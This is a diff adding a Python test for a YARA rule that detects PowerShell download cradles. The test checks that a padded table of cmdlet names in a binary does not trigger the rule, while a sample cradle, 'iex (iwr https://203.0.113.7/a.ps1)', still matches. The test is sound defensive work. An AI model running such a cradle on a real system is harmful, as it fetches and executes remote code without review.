@@ -85,6 +85,21 @@ def test_cradle_words_far_apart_in_a_program_are_no_cradle() -> None:
     assert _matched(rules, script) and _matched(rules, script.decode().encode("utf-16-le"))
 
 
+def test_a_table_of_cmdlet_names_is_no_cradle() -> None:
+    """pypandoc-binary 1.17: pandoc's syntax highlighter lists PowerShell's cmdlets in order,
+    each padded in a table (Invoke-Expression, Invoke-History, ..., Invoke-WebRequest): names,
+    not a command. A cradle in the same program still matches."""
+    rules = RULES_DIR / "powershell_download_cradle.yar"
+    names = ["Invoke-Expression", "Invoke-History", "Invoke-Item", "Invoke-RestMethod",
+             "Invoke-TroubleshootingPack", "Invoke-WebRequest", "Invoke-WmiMethod"]  # fmt: skip
+    pad = b"\xc0\x80" * 8
+    table = b"".join(name.encode() + pad + bytes([len(name)]) for name in names)
+    program = b"\x7fELF" + bytes(4096) + table + bytes(4096) + table.lower()
+    assert _matched(rules, program) == []
+    cradle = b"iex (iwr https://203.0.113.7/a.ps1)"
+    assert _matched(rules, program + bytes(4096) + cradle)
+
+
 def test_user_rule_directories_recursive_with_includes(tmp_path: Path) -> None:
     rules = tmp_path / "rules"
     write(
